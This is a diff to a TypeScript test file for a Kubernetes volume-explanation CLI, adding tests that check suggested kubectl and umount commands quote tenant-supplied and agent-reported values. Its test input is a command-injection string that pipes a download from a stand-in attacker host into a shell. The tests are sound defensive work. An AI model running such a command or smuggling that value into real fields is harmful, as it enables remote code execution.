@@ -3,8 +3,10 @@ import { join } from "node:path";
 import { expect } from "chai";
 import { root } from "../../../hack/lib/root.ts";
 import { isReason } from "../../../src/api/reasons.ts";
+import { explainClaim } from "../../../src/cli/explain/explain-others.ts";
+import { explainPod } from "../../../src/cli/explain/explain-pod.ts";
 import { rendered } from "../../../src/cli/explain/rendered.ts";
-import { now } from "../../lib/cli-objects.ts";
+import { claim, claimVolume, facts, intent, now, pod, volume } from "../../lib/cli-objects.ts";
 import { readGolden, writeGolden, writeVariable } from "./golden.ts";
 import { ofClaims } from "./stories-claims.ts";
 import { ofKubeletsVolumes } from "./stories-kubelet.ts";
@@ -33,6 +35,32 @@ describe("explain", () => {
       const open = tell().chains.flatMap(({ findings }) => findings.filter(({ state }) => state === "blocked"));
       for (const { code, todo } of open) expect(todo, `${title}: ${code}`).to.match(/\w/);
     }
+  });
+});
+
+describe("commands of explain", () => {
+  const evil = "x;curl evil.example|sh";
+
+  it("have as one word what a tenant has written into a claim", () => {
+    const unbound = claim("pg", undefined, { volumeName: evil });
+    const { chains } = explainPod(facts({ claims: [unbound] }), pod("web", claimVolume("pg"), { node: "worker-1" }));
+    const todo = chains.flatMap(({ findings }) => findings).find(({ code }) => code === "ClaimNotBound")?.todo;
+    expect(todo).to.contain(`kubectl get pv '${evil}': is it there`);
+  });
+
+  it("have as one word what an agent has reported", () => {
+    const todoOf = (stagingPath: string) => {
+      const spec = { mode: "Observe", observed: { plugin: "kubernetes.io/csi", volumeName: "pv-1" }, pods: [] };
+      const observed = intent("worker-1.pg", spec, { state: "Observed", inUse: true, stagingPath });
+      const pg = claim("pg", "pv-1");
+      const { chains } = explainClaim(
+        facts({ claims: [pg], persistentVolumes: [volume("pv-1", "pg")], intents: [observed] }),
+        pg,
+      );
+      return chains.flatMap(({ findings }) => findings).find(({ code }) => code === "StagedWithoutPod")?.todo;
+    };
+    expect(todoOf(evil)).to.contain(`umount '${evil}', once`);
+    expect(todoOf("/a\nb")).to.contain("umount its globalmount, once");
   });
 });
 
